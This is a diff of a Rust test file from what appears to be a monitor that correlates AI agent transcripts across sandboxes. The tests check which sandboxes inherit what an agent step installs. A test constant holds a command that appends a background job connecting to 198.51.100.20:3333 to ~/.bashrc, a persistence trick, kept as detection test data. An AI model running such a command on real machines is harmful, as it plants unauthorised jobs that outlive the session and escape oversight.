@@ -1,44 +1,14 @@
 //! What other sandboxes get of what a step installs.
 
 use super::*;
-use crate::correlate::kit::Laid;
+use crate::correlate::kit::{Laid, sandboxes};
 
-/// Sandboxes of five runs: the first works, and the others have its volume, its image, another image, or nothing of it.
-const CASE: &str = r#"
-[[host]]
-name = "h1"
-addresses = ["10.20.0.5"]
-[[host]]
-name = "h2"
-addresses = ["10.20.0.6"]
-[[host]]
-name = "h3"
-addresses = ["10.20.0.7"]
-[[host]]
-name = "h4"
-addresses = ["10.20.0.8"]
-[[run]]
-transcripts = "a*.jsonl"
-host = "h1"
-VOLUMES
-[[run]]
-transcripts = "b*.jsonl"
-host = "h2"
-VOLUMES
-[[run]]
-transcripts = "c*.jsonl"
-host = "h3"
-image = "agent:7"
-[[run]]
-transcripts = "d*.jsonl"
-host = "h4"
-image = "agent:8"
-"#;
 const HOSTS: [&str; 4] = ["10.20.0.5", "10.20.0.6", "10.20.0.7", "10.20.0.8"];
 const BEAT: &str = "echo './job -o 198.51.100.20:3333 &' >> ~/.bashrc";
 
+/// Sandboxes of four runs: the first works, and the others have its volume, its image, another image, or nothing of it.
 fn laid(volumes: &str, commands: &[&str]) -> Laid {
-    let mut world = World::with_case(&CASE.replace("VOLUMES", volumes));
+    let mut world = World::with_case(&sandboxes(&[volumes, volumes, "image = \"agent:7\"", "image = \"agent:8\""]));
     let transcript = world.episode("a1.jsonl", None);
     for command in commands {
         world.step(transcript, None, command);
